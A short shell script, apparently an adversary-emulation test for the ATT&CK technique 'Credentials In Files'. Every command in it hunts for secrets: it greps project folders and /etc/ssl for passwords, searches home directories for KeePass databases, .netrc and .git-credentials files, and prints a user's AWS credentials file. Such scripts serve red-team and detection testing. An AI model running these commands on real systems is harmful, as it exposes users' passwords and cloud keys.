#!/bin/sh
# SPDX-License-Identifier: GPL-3.0-or-later
# T1552.001 Credentials In Files: searches the disk for passwords and files that usually hold them.
grep -riIl "password" /home/jonas/projects /etc/ssl 2>/dev/null | head -10
find /home /root -name "*.kdbx" -o -name ".netrc" -o -name ".git-credentials" 2>/dev/null
cat /home/jonas/.aws/credentials
